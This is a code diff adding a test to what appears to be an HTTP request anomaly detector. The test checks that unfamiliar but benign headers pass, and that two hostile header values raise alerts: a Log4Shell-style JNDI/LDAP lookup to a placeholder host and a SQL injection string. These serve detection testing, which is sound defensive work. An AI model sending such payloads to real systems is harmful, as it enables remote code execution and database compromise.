@@ -120,6 +120,24 @@ describe('abnormal-parameter', () => {
     expect(alerts[0]?.summary).toContain('{0}');
   });
 
+  it('judges the values of headers that the operator keeps, and takes no offence at a header that is new', () => {
+    const state = new Endpoints();
+    const agent = (at: number): Record<string, string> => ({
+      'user-agent': `Mozilla/5.0 (X11; Linux x86_64; rv:${100 + (at % 30)}.0) Gecko/${at} Firefox/${at % 30}.0`,
+      'x-region': ['eu', 'us'][at % 2]!,
+    });
+    for (let at = 0; at < 300; at++)
+      state.fold(call(`c${at % 9}`, at * 6 - 1_600, { headers: at % 10 ? agent(at) : {} }));
+    const other = { ...agent(7), 'x-client-version': '7.1.4' };
+    expect(state.fold(call('c1', 300, { headers: other }))).toEqual([]);
+    expect(state.fold(call('c1', 301, { headers: { 'user-agent': 'curl/8.5.0' } }))).toEqual([]);
+    expect(abnormalParameterReleasesAt(state.of(call('c1', 300)))).toBeUndefined();
+    const lookup = { ...agent(7), 'user-agent': '${jndi:ldap://x.example.net/a}' };
+    expect(state.fold(call('eve', 302, { headers: lookup }))[0]?.summary).toContain('header:user-agent');
+    const injection = { ...agent(8), 'x-region': "eu' OR '1'='1" };
+    expect(state.fold(call('mallory', 303, { headers: injection }))[0]?.summary).toContain('header:x-region');
+  });
+
   it.each([
     ['a new enum value', { view: ['full'], status: ['refunded'] }],
     ['a new optional parameter', { view: ['full'], status: ['open'], include: ['items'] }],
